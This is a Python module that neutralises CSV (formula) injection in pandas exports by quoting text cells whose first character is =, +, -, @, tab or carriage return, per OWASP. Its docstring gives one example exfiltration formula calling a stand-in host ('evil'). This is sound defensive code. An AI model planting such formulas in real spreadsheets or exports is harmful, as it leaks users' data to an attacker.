"""CSV exports that a spreadsheet cannot run: the OWASP rule against CSV (formula) injection.

A cell such as ``=HYPERLINK("http://evil/?"&A1)`` typed into a cohort table, a column name or a
group value would run as a formula when an exported CSV is opened in Excel or LibreOffice. OWASP
("CSV Injection", https://owasp.org/www-community/attacks/CSV_Injection) says: prepend a single
quote to every cell that begins with ``=``, ``+``, ``-``, ``@``, tab or carriage return, and quote
the cells. Numbers are never touched: a negative SI written as a number (or text such as
``-1.5`` that reads as one) stays a number, so exports still load back unchanged.
"""

from __future__ import annotations

import math
from typing import Any

import pandas as pd

__all__ = ["FORMULA_PREFIXES", "neutralise_cell", "neutralise_frame", "safe_csv"]

#: First characters that make a spreadsheet treat a cell as a formula (OWASP).
FORMULA_PREFIXES: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        return math.isfinite(float(text.strip().replace(",", ".", 1)))
    except ValueError:
        return False


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula.

    >>> neutralise_cell("=1+1"), neutralise_cell("-1.5"), neutralise_cell(-2.0)
    ("'=1+1", '-1.5', -2.0)
    """
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES) and not _is_number(value):
        return "'" + value
    return value


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text cell and column name passed through
    ``neutralise_cell``; numeric columns are returned as they are."""
    out = frame.copy()
    for col in out.columns:
        if not (
            pd.api.types.is_object_dtype(out[col].dtype)
            or pd.api.types.is_string_dtype(out[col].dtype)
        ):
            continue
        out[col] = out[col].map(neutralise_cell)
    out.columns = pd.Index([neutralise_cell(str(c)) for c in out.columns])
    return out


def safe_csv(frame: pd.DataFrame, *, raw: bool = False, **to_csv: Any) -> str:
    """``frame.to_csv(**to_csv)`` as text, formula-neutralised unless ``raw`` (index off by
    default)."""
    to_csv.setdefault("index", False)
    text: str = (frame if raw else neutralise_frame(frame)).to_csv(**to_csv)
    return text
